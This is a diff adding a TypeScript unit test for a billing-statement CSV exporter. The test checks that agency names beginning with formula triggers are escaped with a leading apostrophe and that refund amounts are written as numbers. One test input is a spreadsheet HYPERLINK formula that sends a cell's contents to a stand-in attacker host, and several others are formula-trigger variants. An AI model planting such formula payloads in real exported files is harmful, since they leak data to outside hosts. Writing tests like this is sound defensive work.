@@ -78,6 +78,45 @@ describe('statement CSV', () => {
     expect(rows.at(-1)).toBe(`Tổng cộng / Total,,,,,,,,,${s.totalVnd}`);
     expect(s.totalVnd).toBe(2_201_870);
   });
+
+  it('neutralises text a spreadsheet would run as a formula, and writes the amounts it computes as numbers', () => {
+    const refunded = (agencyName: string): Statement => ({
+      ...sample(),
+      agencyName,
+      adjustments: [
+        {
+          period: '2026-10',
+          operation: 'citizen:read',
+          reason: 'reversal',
+          calls: 0,
+          billable: -1,
+          amountVnd: -500,
+          description: '-A2 refunded',
+        },
+      ],
+    });
+    const firstRow = (s: Statement) => statementCsv(s).slice(1).split('\r\n')[0];
+    for (const [name, cell] of [
+      [
+        '=HYPERLINK("https://evil.example/?x="&A2,"Click for refund")',
+        `"'=HYPERLINK(""https://evil.example/?x=""&A2,""Click for refund"")"`,
+      ],
+      ['+1+1', `"'+1+1"`],
+      ['-A2:B9', `"'-A2:B9"`],
+      ['@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
+      ['\t=1+1', `"'\t=1+1"`],
+      ['\r=1+1', `"'\r=1+1"`],
+      ['  =1+1', `"'  =1+1"`],
+      ['\uFF1D1+1', `"'\uFF1D1+1"`],
+    ]) {
+      expect(firstRow(refunded(name!)), JSON.stringify(name)).toBe(
+        `Sao kê / Statement,2026-11,Cơ quan / Agency,${cell},ag_danang`,
+      );
+    }
+    const rows = statementCsv(refunded('BHXH')).slice(1).trimEnd().split('\r\n');
+    // A refund is -500 đồng: a number finance can add up, not text.
+    expect(rows).toContain(`Điều chỉnh / Adjustment 2026-10,citizen:read,"'-A2 refunded",,,0,-1,,,-500`);
+  });
 });
 
 describe('signed statement file', () => {
